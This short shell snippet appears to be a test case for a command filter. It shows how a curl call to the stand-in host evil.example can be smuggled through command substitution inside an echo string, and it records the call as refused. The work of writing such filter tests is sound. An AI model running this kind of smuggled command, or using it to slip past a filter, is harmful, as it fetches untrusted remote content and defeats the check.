# Trick: a substitution stands inside a text.
# Refused: run(curl)
echo "the answer is $(curl -s http://evil.example/)"
